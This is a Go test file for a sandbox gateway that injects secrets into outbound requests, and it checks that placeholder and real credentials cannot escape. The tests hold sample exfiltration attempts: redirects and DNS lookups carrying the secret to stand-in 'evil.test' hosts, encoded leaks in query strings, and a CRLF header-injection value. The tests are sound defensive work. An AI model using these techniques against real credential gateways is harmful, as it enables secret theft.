//go:build linux

package corpus_test

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/miekg/dns"

	"sallyport/audit"
	"sallyport/test/lab"
)

func secretsPolicy() map[string]string {
	return map[string]string{"secrets.hcl": `
secret "SEC08_KEY" {
  hosts   = ["*.sec08.test"]
  headers = ["Authorization", "X-Api-Key"]
  source "file" { path = "SECRETFILE" }
}
sandbox "sec08" {
  allow "*.sec08.test" {
    inject    = ["SEC08_KEY"]
    addresses = DOCS
  }
}
sandbox "sec01" {
  allow "sec01.other.test" { addresses = DOCS }
  allow "pass.sec01.other.test" {
    addresses = DOCS
    on_leak   = "pass"
  }
}
sandbox "sec02" {
  allow "*.sec02.good.test" {
    schemes   = ["http", "https"]
    ports     = [80, 443]
    inject    = ["API_KEY"]
    addresses = DOCS
  }
}
`}
}

func TestSEC01PlaceholderToAnotherHost(t *testing.T) {
	begin(t)
	s := attached(t, "sec01")
	const host, pass = "sec01.other.test", "pass.sec01.other.test"
	for _, tt := range []struct{ name, path, line string }{
		{"Authorization", "/", "Authorization: Bearer $API_KEY"},
		{"User-Agent", "/", "User-Agent: curl $API_KEY"},
		{"braces", "/", "X-Data: ${API_KEY}"},
		{"query", "/?k=$API_KEY", ""},
		{"encoded query", "/?k=%24API_KEY", ""},
		{"path", "/a/$API_KEY/b", ""},
		{"Basic", "/", "Authorization: Basic " + base64.StdEncoding.EncodeToString([]byte("x:$API_KEY"))},
		{"Cookie", "/", "Cookie: k=$API_KEY"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := s.Mark()
			w := s.Secure(t, host+":443")
			lines := []string{"Connection: close"}
			if tt.line != "" {
				lines = append(lines, tt.line)
			}
			w.Send(t, get(tt.path, host, lines...))
			check(t, w.Answer(t, "GET"), 403, "placeholder_leak")
			got := s.Decided(t, before, refused(host, "placeholder_leak"))
			e := got[len(got)-1]
			if e.Severity != audit.Critical || len(e.Secrets) != 1 || e.Secrets[0].Name != "API_KEY" || e.Secrets[0].Action != "withheld" {
				t.Errorf("recorded: %s %+v", e.Severity, e.Secrets)
			}
		})
	}
	silent(t, host)
	s.Expect(t, allowed(pass), func() {
		check(t, s.Get(t, "https://"+pass+"/?k=$API_KEY", "Authorization: Bearer $API_KEY"), 200, "")
	})
	if q := origin(pass).Requests(); len(q) != 1 || q[0].Header["Authorization"][0] != "Bearer $API_KEY" || q[0].Target != "/?k=$API_KEY" {
		t.Errorf("with on_leak = pass the origin saw %+v", q)
	}
	if bytes.Contains(origin(pass).Raw(), []byte(real)) {
		t.Error("the real value went out")
	}
}

func TestSEC02PlainHTTP(t *testing.T) {
	begin(t)
	s := attached(t, "sec02")
	const host = "a.sec02.good.test"
	for _, base := range []string{"http://" + host + "/", "http://" + host + ":443/"} {
		before := s.Mark()
		a := s.Get(t, base, "Authorization: Bearer $API_KEY")
		if a.Status != 403 || a.Reason() != "plaintext_injection" && a.Reason() != "placeholder_leak" {
			t.Errorf("%s: %d %s", base, a.Status, a.Body)
		}
		s.Decided(t, before, refused(host, a.Reason()))
	}
	silent(t, host)
	s.Expect(t, allowed(host), func() { check(t, s.Get(t, "http://"+host+"/"), 200, "") })
	t.Run("from https to http", func(t *testing.T) {
		a := s.Get(t, "https://"+host+"/lab/status?code=302&Location=http://"+host+"/next", "Authorization: Bearer $API_KEY")
		if a.Status != 302 {
			t.Fatalf("got %d", a.Status)
		}
		if a = s.Get(t, a.Header.Get("Location"), "Authorization: Bearer $API_KEY"); a.Status != 403 {
			t.Errorf("the redirect was followed in plain text: %d", a.Status)
		}
	})
	raw := origin(host).Raw()
	head, rest, _ := bytes.Cut(raw, []byte("\r\n\r\n"))
	if bytes.Contains(head, []byte(real)) || len(rest) == 0 {
		t.Errorf("the plain request: %q", head)
	}
	for _, q := range origin(host).Requests() {
		if q.Target == "/next" {
			t.Error("the plain request reached the origin")
		}
	}
}

func basicAuth(text string) string { return "Basic " + base64.StdEncoding.EncodeToString([]byte(text)) }

func TestSEC03Basic(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "sec03.good.test"
	for _, tt := range []struct{ sent, want string }{
		{"x-access-token:$API_KEY", "x-access-token:" + real},
		{"$API_KEY:", real + ":"},
		{"$API_KEY:x-oauth-basic", real + ":x-oauth-basic"},
		{"user:${API_KEY}", "user:" + real},
	} {
		check(t, s.Get(t, "https://"+host+"/", "Authorization: "+basicAuth(tt.sent)), 200, "")
		q := origin(host).Requests()
		if got := q[len(q)-1].Header["Authorization"]; len(got) != 1 || got[0] != basicAuth(tt.want) {
			t.Errorf("%s: the origin saw %q", tt.sent, got)
		}
	}
	s.Expect(t, refused("sec03.other.test", "placeholder_leak"), func() {
		check(t, s.Get(t, "https://sec03.other.test/", "Authorization: "+basicAuth("x:$API_KEY")), 403, "placeholder_leak")
	})
	silent(t, "sec03.other.test")
	t.Run("git", func(t *testing.T) { // asks without, and again after 401
		const host = "sec03-git.good.test"
		asked := 0
		origin(host).SetHandler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			asked++
			if user, pass, ok := r.BasicAuth(); !ok || user != "x-access-token" || pass != real {
				w.Header().Set("Www-Authenticate", `Basic realm="git"`)
				w.WriteHeader(http.StatusUnauthorized)
				return
			}
			w.Header().Set("Content-Type", "application/x-git-upload-pack-advertisement")
			packet := func(line string) string { return fmt.Sprintf("%04x%s", len(line)+4, line) }
			_, _ = io.WriteString(w, packet("# service=git-upload-pack\n")+"0000"+
				packet("e3b0c44298fc1c149afbf4c8996fb92427ae41e4 refs/heads/main\x00agent=lab\n")+"0000")
		}))
		r := s.Command(t, "git", "-c", "credential.helper=", "ls-remote", "https://x-access-token:$API_KEY@"+host+"/r.git")
		if r.Code != 0 || !strings.Contains(r.Stdout, "refs/heads/main") {
			t.Errorf("git exits %d: %s%s", r.Code, r.Stdout, r.Stderr)
		}
		if asked < 1 {
			t.Error("git asked nothing")
		}
	})
}

func TestSEC04BasicForms(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "sec04.good.test"
	std := base64.StdEncoding.EncodeToString([]byte("u:$API_KEY"))
	for name, value := range map[string]string{"lower case and spaces": "basic  " + std, "no padding": "Basic " + strings.TrimRight(std, "=")} {
		a := s.Get(t, "https://"+host+"/", "Authorization: "+value)
		if a.Status != 200 {
			t.Errorf("%s: %d %s", name, a.Status, a.Body)
			continue
		}
		q := origin(host).Requests()
		_, enc, _ := strings.Cut(strings.TrimSpace(q[len(q)-1].Header["Authorization"][0]), " ")
		if b, _ := base64.RawStdEncoding.DecodeString(strings.TrimRight(strings.TrimSpace(enc), "=")); string(b) != "u:"+real {
			t.Errorf("%s: the origin saw %q", name, q[len(q)-1].Header["Authorization"])
		}
	}
	for name, value := range map[string]string{"garbage behind": "Basic " + std + "!!", "another alignment": "Basic A" + std} {
		n := len(origin(host).Requests())
		if a := s.Get(t, "https://"+host+"/", "Authorization: "+value); a.Status == 200 {
			for _, q := range origin(host).Requests()[n:] {
				if v := strings.Join(q.Header["Authorization"], ""); strings.Contains(v, std[:len(std)-2]) {
					t.Errorf("%s: a placeholder went out: %q", name, v)
				}
			}
		}
	}
}

func TestSEC05ValueWithControlBytes(t *testing.T) {
	l := begin(t)
	for name, tt := range map[string]struct {
		value string
		want  string // Authorization at the origin; "" when the secret cannot be had
	}{
		"newline":   {"VALUE-sec05\n", "Bearer VALUE-sec05"},
		"injection": {"VALUE-sec05\r\nX-Evil: 1", ""},
		"NUL":       {"VALUE-sec05\x00", ""},
		"empty":     {"", ""},
		"70 kB":     {strings.Repeat("v", 70<<10), ""},
		"BOM":       {"\ufeffVALUE-sec05", ""},
	} {
		t.Run(name, func(t *testing.T) {
			host := "sec05-" + strings.ToLower(strings.ReplaceAll(name, " ", "")) + ".good.test"
			r := l.RunSandbox(t, lab.RunOptions{Policy: l.MustPolicy(t, p0, tt.value), Sandbox: "s1"})
			before := r.Mark()
			a := r.Get(t, "https://"+host+"/", "Authorization: Bearer $API_KEY")
			if tt.want == "" {
				check(t, a, 503, "secret_unavailable")
				r.Decided(t, before, refused(host, "secret_unavailable"))
				silent(t, host)
				return
			}
			q := origin(host).Requests()
			if a.Status != 200 || len(q) != 1 || len(q[0].Header["Authorization"]) != 1 || q[0].Header["Authorization"][0] != tt.want || len(q[0].Header["X-Evil"]) > 0 {
				t.Errorf("%d: the origin saw %+v", a.Status, q)
			}
		})
	}
}

func TestSEC08OnlyWhereItBelongs(t *testing.T) {
	begin(t)
	s := attached(t, "sec08")
	const host = "a.sec08.test"
	origin(host).SetProtocols("http/1.1")
	for _, tt := range []struct {
		line   string
		status int
	}{
		{"AUTHORIZATION: Bearer $SEC08_KEY", 200}, {"authorization: Bearer $SEC08_KEY", 200}, {"X-API-KEY: $SEC08_KEY", 200},
		{"X-Data: $SEC08_KEY", 403}, {"User-Agent: $SEC08_KEY", 403}, {"Referer: https://x/?k=$SEC08_KEY", 403}, {"Cookie: k=$SEC08_KEY", 403},
		{"X_Api_Key: $SEC08_KEY", 403}, {"Proxy-Authorization: Basic $SEC08_KEY", 403},
	} {
		t.Run(tt.line, func(t *testing.T) {
			before := s.Mark()
			w := s.Secure(t, host+":443")
			w.Send(t, get("/", host, tt.line, "Connection: close"))
			a := w.Answer(t, "GET")
			if a.Status != tt.status {
				t.Fatalf("got %d %s", a.Status, a.Body)
			}
			if tt.status == 403 {
				check(t, a, 403, "placeholder_place")
				s.Decided(t, before, refused(host, "placeholder_place"))
			}
		})
	}
	if n := len(origin(host).Requests()); n != 3 {
		t.Errorf("the origin saw %d requests", n)
	}
	if n := bytes.Count(origin(host).Raw(), []byte(real)); n != 3 {
		t.Errorf("the secret went out %d times", n)
	}
}

func TestSEC16EveryMethodAndFraming(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "sec16.good.test"
	for _, protocol := range []string{"http/1.1", "h2"} {
		origin("u" + protocol[len(protocol)-1:] + "." + host).SetProtocols(protocol)
	}
	n := 0
	for _, up := range []string{"u1." + host, "u2." + host} {
		seen := func(what string) {
			q := origin(up).Requests()
			if n++; len(q) == 0 || strings.Join(q[len(q)-1].Header["Authorization"], "|") != "Bearer "+real {
				t.Errorf("%s: the origin saw %+v", what, q[len(q)-1])
			}
		}
		for _, h2 := range []bool{false, true} {
			c := s.Client(t, h2)
			for _, method := range []string{"GET", "HEAD", "POST", "PUT", "PATCH", "DELETE", "OPTIONS", "PROPFIND"} {
				for _, body := range []string{"", "a body", "chunked"} {
					req := lab.NewRequest(t, method, "https://"+up+"/", body, "Authorization: Bearer $API_KEY")
					if body == "chunked" {
						req.ContentLength = -1
					}
					if a := lab.Do(t, c, req); a.Status != 200 {
						t.Errorf("%s %q h2=%v: %d %s", method, body, h2, a.Status, a.Body)
					}
					seen(fmt.Sprintf("%s %q h2=%v", method, body, h2))
				}
			}
		}
		f := dialFrames(t, s, up)
		f.ask(t, 1, false, ":method", "POST", ":scheme", "https", ":authority", up, ":path", "/", "authorization", "Bearer $API_KEY")
		if err := f.WriteData(1, true, []byte("at once")); err != nil {
			t.Fatal(err)
		}
		if got := f.await(t, 1)[1]; got.status != "200" {
			t.Errorf("h2 with data at once: %+v", got)
		}
		seen("h2 with data at once")
	}
}

func TestSEC22Redirects(t *testing.T) {
	begin(t)
	s := s1(t)
	const host, other, evil = "sec22.good.test", "sec22.other.test", "sec22.evil.test"
	follow := func(code int, location string) lab.Answer {
		a := s.Get(t, "https://"+host+"/lab/status?code="+fmt.Sprint(code)+"&Location="+url.QueryEscape(location), "Authorization: Bearer $API_KEY")
		if a.Status != code {
			t.Fatalf("the gateway followed: %d %s", a.Status, a.Body)
		}
		return s.Get(t, a.Header.Get("Location"), "Authorization: Bearer $API_KEY")
	}
	check(t, follow(302, "https://"+evil+"/?t=x"), 403, "host_not_allowed")
	check(t, follow(307, "https://"+other+"/"), 403, "placeholder_leak")
	if a := follow(302, "http://"+host+"/"); a.Status != 403 {
		t.Errorf("to plain HTTP: %d %s", a.Status, a.Body)
	}
	silent(t, other, evil)
	t.Run("the value in Location", func(t *testing.T) {
		const host = "sec22-reflect.good.test"
		origin(host).SetHandler(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", "https://"+evil+"/?t="+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "))
			w.WriteHeader(http.StatusFound)
		}))
		a := s.Get(t, "https://"+host+"/", "Authorization: Bearer $API_KEY")
		if a.Status != 302 || strings.Contains(fmt.Sprint(a.Header), real) {
			t.Errorf("the sandbox got %d %v", a.Status, a.Header)
		}
	})
}

func TestSEC26SourceDown(t *testing.T) {
	l := alone(t) // it measures how soon a request is refused
	dir := filepath.Join(l.Dir, l.Unique("sec26"))
	if err := os.Mkdir(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	file := filepath.Join(dir, "key")
	policy := `
secret "FILE_KEY" {
  hosts = ["file.sec26.test"]
  ttl   = "1s"
  source "file" { path = "` + file + `" }
}
secret "SLOW_KEY" {
  hosts = ["slow.sec26.test"]
  source "exec" { command = ["/bin/sleep", "60"] }
}
secret "FAILS_KEY" {
  hosts = ["fails.sec26.test"]
  source "exec" { command = ["/bin/false"] }
}
secret "EMPTY_KEY" {
  hosts = ["empty.sec26.test"]
  source "exec" { command = ["/bin/true"] }
}
sandbox "s1" {
`
	for _, name := range []string{"file", "slow", "fails", "empty"} {
		policy += fmt.Sprintf("  allow \"%s.sec26.test\" {\n    inject = [\"%s_KEY\"]\n    addresses = DOCS\n  }\n", name, strings.ToUpper(name))
	}
	g := l.Gateway(t, lab.GatewayOptions{Policy: map[string]string{"p.hcl": l.MustPolicy(t, policy+"}\n", real)}})
	s := g.Attach(t, "s1")
	for _, name := range []string{"file", "fails", "empty", "slow"} {
		begun := time.Now()
		host := name + ".sec26.test"
		check(t, s.Get(t, "https://"+host+"/", "Authorization: Bearer $"+strings.ToUpper(name)+"_KEY"), 503, "secret_unavailable")
		if took := time.Since(begun); took > 8*time.Second {
			t.Errorf("%s took %v", name, took)
		}
		check(t, s.Get(t, "https://"+host+"/"), 200, "") // without the secret it goes on
	}
	if err := os.WriteFile(file, []byte("VALUE-sec26\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	works := func() error {
		a, err := lab.Try(s.Client(t, false), lab.NewRequest(t, "GET", "https://file.sec26.test/", "", "Authorization: Bearer $FILE_KEY"))
		if err == nil && a.Status != 200 {
			err = fmt.Errorf("%d %s", a.Status, a.Body)
		}
		return err
	}
	eventually(t, works)
	if err := os.Remove(file); err != nil {
		t.Fatal(err)
	}
	soon(t, 10*time.Second, func() error {
		if works() == nil {
			return fmt.Errorf("a secret whose file is gone is still sent")
		}
		return nil
	})
	for _, q := range origin("file.sec26.test").Requests() {
		if v := strings.Join(q.Header["Authorization"], ""); v != "" && v != "Bearer VALUE-sec26" {
			t.Errorf("the origin saw %q", v)
		}
	}
}

func TestSEC28TwoCredentials(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "sec28.good.test"
	origin(host).SetProtocols("http/1.1")
	for _, lines := range [][]string{
		{"Authorization: Bearer $API_KEY", "authorization: Bearer other"},
		{"Authorization: Bearer other", "Authorization: Bearer $API_KEY"},
		{"Authorization: Bearer $API_KEY, Bearer other"},
	} {
		n := len(origin(host).Requests())
		w := s.Secure(t, host+":443")
		w.Send(t, get("/", host, append(lines, "Connection: close")...))
		a := w.Answer(t, "GET")
		for _, q := range origin(host).Requests()[n:] {
			if v := q.Header["Authorization"]; len(v) > 1 || strings.Contains(strings.Join(v, ""), "other") {
				t.Errorf("%q: %d, the origin saw %q", lines, a.Status, v)
			}
		}
	}
}

func TestSEC30PlacesThatAreNever(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "sec30.good.test"
	s.Expect(t, []string{"dns deny placeholder_leak"}, func() {
		m, err := s.Ask("$API_KEY.sec30.evil.test", dns.TypeA)
		if err != nil || len(m.Answer) > 0 && m.Rcode == dns.RcodeSuccess {
			t.Logf("answered %v %v", m, err)
		}
	})
	unasked(t, "sec30.evil")
	for _, tt := range []struct{ name, bytes, reason string }{
		{"Host", get("/", "$API_KEY."+host), ""},
		{"method", "$API_KEY / HTTP/1.1\r\nHost: " + host + "\r\n\r\n", ""},
		{"Proxy-Authorization", get("/", host, "Proxy-Authorization: Basic "+base64.StdEncoding.EncodeToString([]byte("x:$API_KEY"))), "placeholder_place"},
		{"CONNECT", "CONNECT " + host + ":443 HTTP/1.1\r\nHost: " + host + ":443\r\nX: $API_KEY\r\n\r\n", "connect_refused"},
	} {
		t.Run(tt.name, func(t *testing.T) {
			before := s.Mark()
			w := s.Secure(t, host+":443")
			w.Send(t, tt.bytes)
			a := w.Answer(t, "GET")
			if a.Status < 400 || tt.reason != "" && a.Reason() != tt.reason {
				t.Errorf("got %d %s", a.Status, a.Body)
			}
			s.Decided(t, before, refused(host, a.Reason()))
		})
	}
	t.Run("trailer", func(t *testing.T) {
		const host = "sec30-trailer.good.test"
		origin(host).SetProtocols("http/1.1")
		w := s.Secure(t, host+":443")
		w.Send(t, "POST /lab/trailers HTTP/1.1\r\nHost: "+host+"\r\nTransfer-Encoding: chunked\r\nTrailer: X-Sum\r\n\r\n3\r\nabc\r\n0\r\nX-Sum: $API_KEY\r\n\r\n")
		a, err := w.TryAnswer("POST")
		if err == nil && a.Status == 200 {
			t.Errorf("a placeholder in a trailer was let through: %v", a.Trailer)
		}
		if raw := origin(host).Raw(); bytes.Contains(raw, []byte("API_KEY")) || bytes.Contains(raw, []byte(real)) {
			t.Errorf("the origin saw %q", raw)
		}
	})
	silent(t, host)
}

func TestSEC32ErrorPages(t *testing.T) {
	l := begin(t)
	s := s1(t)
	l.DNS.Set("refused.sec32.good.test", "60 A "+lab.Spare)
	origin("reset.sec32.good.test").SetProtocols("http/1.1")
	origin("reset.sec32.good.test").SetScript(func(c lab.Conn, _ int) {
		_, _ = c.Read(make([]byte, 4096))
		if r, ok := c.(interface{ Reset() }); ok {
			r.Reset()
		}
	})
	origin("garbage.sec32.good.test").SetProtocols("http/1.1")
	origin("garbage.sec32.good.test").SetScript(func(c lab.Conn, _ int) {
		b := make([]byte, 4096)
		n, _ := c.Read(b)
		_, _ = c.Write(append([]byte("NOT HTTP "), b[:n]...)) // with the secret in it
	})
	bad, err := l.Origins.CA.Leaf("wrong.test", nil)
	if err != nil {
		t.Fatal(err)
	}
	origin("badcert.sec32.good.test").SetCertificate(bad)
	for _, name := range []string{"refused", "reset", "garbage", "badcert"} {
		for _, accept := range []string{"*/*", "application/json"} {
			host := name + ".sec32.good.test"
			a := s.Get(t, "https://"+host+"/path", "Authorization: Bearer $API_KEY", "Accept: "+accept)
			if a.Status != 502 && a.Status != 504 || !strings.HasPrefix(a.Reason(), "upstream_") {
				t.Errorf("%s: %d %s", host, a.Status, a.Body)
			}
			if text := a.Body + fmt.Sprint(a.Header); strings.Contains(text, real) || strings.Contains(text, "goroutine") || strings.Contains(text, "203.0.113") {
				t.Errorf("%s: %s", host, text)
			}
		}
	}
	if s := world.gateway.Stderr(); strings.Contains(s, real) {
		t.Error("the secret is in the log")
	}
	s.Mark()
	for _, e := range s.Events(audit.Filter{}) {
		if e.Error != nil && strings.Contains(e.Error.Detail, real) {
			t.Errorf("recorded: %+v", e.Error)
		}
	}
}

// forms are the value and what a log could hold of it instead.
func forms(value string) []string {
	return []string{value, base64.StdEncoding.EncodeToString([]byte(value))[:24], hex.EncodeToString([]byte(value)), url.QueryEscape(value + "/")}
}

func TestSEC09BodiesAreNotSubstituted(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "sec09.good.test"
	for _, media := range []string{"application/json", "application/x-www-form-urlencoded", "text/plain"} {
		a := lab.Do(t, s.Client(t, false), lab.NewRequest(t, "POST", "https://"+host+"/comments", `{"body":"$API_KEY"}`, "Content-Type: "+media))
		if strings.Contains(a.Body, real) {
			t.Errorf("%s: the secret came back: %s", media, a.Body)
		}
	}
	if bytes.Contains(origin(host).Raw(), []byte(real)) {
		t.Error("the secret went into a body that no rule opens")
	}
	for _, q := range origin(host).Requests() {
		if strings.Contains(q.Body, real) {
			t.Errorf("the origin saw %q", q.Body)
		}
	}
}

func TestSEC11Disguises(t *testing.T) {
	begin(t)
	s := s1(t)
	const host, other = "sec11.good.test", "sec11.other.test"
	for _, target := range []string{"/?k=%24API_KEY", "/%24API_KEY", "/?k=%24%7BAPI_KEY%7D", "/?%24API_KEY=1"} {
		for name, reason := range map[string]string{host: "placeholder_place", other: "placeholder_leak"} {
			before := s.Mark()
			w := s.Secure(t, name+":443")
			w.Send(t, get(target, name, "Connection: close"))
			check(t, w.Answer(t, "GET"), 403, reason)
			s.Decided(t, before, refused(name, reason))
		}
	}
	silent(t, host, other)
}

func TestSEC21Reflection(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "sec21.good.test"
	for _, h2 := range []bool{false, true} {
		a := lab.Do(t, s.Client(t, h2), lab.NewRequest(t, "GET", "https://"+host+"/headers", "", "Authorization: Bearer $API_KEY"))
		if a.Status != 200 || strings.Contains(a.Body, real) {
			t.Errorf("h2=%v: the sandbox got %d %s", h2, a.Status, a.Body)
		}
		a = lab.Do(t, s.Client(t, h2), lab.NewRequest(t, "GET", "https://"+host+"/headers", "", "Authorization: "+basicAuth("u:$API_KEY")))
		if strings.Contains(a.Body, base64.StdEncoding.EncodeToString([]byte("u:"+real))) {
			t.Errorf("h2=%v: the sandbox got %s", h2, a.Body)
		}
	}
	q := origin(host).Requests()
	if len(q) != 4 || q[0].Header["Authorization"][0] != "Bearer "+real {
		t.Errorf("the origin saw %+v", q)
	}
}

func TestSEC23PresignedURL(t *testing.T) {
	begin(t)
	s := s1(t)
	const host, store = "sec23.good.test", "store.sec23.good.test"
	signed := "https://" + store + "/obj?X-Amz-Algorithm=AWS4-HMAC-SHA256&X-Amz-Signature=" + strings.Repeat("a1", 32)
	a := s.Get(t, "https://"+host+"/lab/status?code=302&Location="+url.QueryEscape(signed), "Authorization: Bearer $API_KEY")
	if a.Status != 302 {
		t.Fatalf("got %d", a.Status)
	}
	s.Expect(t, allowed(store), func() { check(t, s.Get(t, a.Header.Get("Location")), 200, "") })
	q := origin(store).Requests()
	if len(q) != 1 || len(q[0].Header["Authorization"]) != 0 || !strings.HasSuffix(signed, q[0].Target) {
		t.Errorf("the store saw %+v", q)
	}
}

func TestSEC25OwnCredential(t *testing.T) {
	begin(t)
	s := attached(t, "pol21")
	const host = "own.good.test"
	n := len(origin(host).Requests())
	check(t, s.Get(t, "https://"+host+"/v2/blobs", "Authorization: Bearer eyJhbGciOiJub25lIn0.e30."), 200, "")
	q := origin(host).Requests()[n:]
	if len(q) == 0 || q[len(q)-1].Header["Authorization"][0] != "Bearer eyJhbGciOiJub25lIn0.e30." {
		t.Errorf("the origin saw %+v", q)
	}
}

func TestSEC31ValueOnItsWayOut(t *testing.T) {
	begin(t)
	s := s1(t)
	const host = "sec31.other.test"
	for _, tt := range []struct{ path, line string }{
		{"/?x=" + real, ""}, {"/a/" + real, ""}, {"/", "X-Data: " + real}, {"/", "Authorization: Bearer " + real},
		{"/?x=" + base64.StdEncoding.EncodeToString([]byte(real)), ""}, {"/?x=" + hex.EncodeToString([]byte(real)), ""},
	} {
		before := s.Mark()
		w := s.Secure(t, host+":443")
		w.Send(t, get(tt.path, host, append([]string{"Connection: close"}, nonEmpty(tt.line)...)...))
		check(t, w.Answer(t, "GET"), 403, "secret_exfiltration")
		got := s.Decided(t, before, refused(host, "secret_exfiltration"))
		if e := got[len(got)-1]; e.Severity != audit.Critical {
			t.Errorf("severity %s", e.Severity)
		}
	}
	silent(t, host)
}

func nonEmpty(s string) []string {
	if s == "" {
		return nil
	}
	return []string{s}
}
